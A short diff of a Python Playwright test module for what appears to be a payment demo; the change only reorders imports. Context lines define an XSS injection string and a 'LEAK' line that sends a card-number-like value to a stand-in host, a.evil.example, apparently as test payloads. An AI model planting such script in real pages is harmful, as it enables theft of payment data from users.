@@ -9,12 +9,13 @@ from pathlib import Path
 
 import pytest
 from barriers import nobody_is_kept_out
-from conftest import CHROMIUM, OPTIONS
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from playwright.async_api import Page, Route, async_playwright
 from running_demo import Demo, sign_in
 from test_paying_on_the_payment_page import order
+
+from conftest import CHROMIUM, OPTIONS
 
 INJECTED = "</main><script>document.title = 'owned'</script>"
 LEAK = "document.body.append(Object.assign(new Image(), {src: 'https://a.evil.example/?4111'}))"
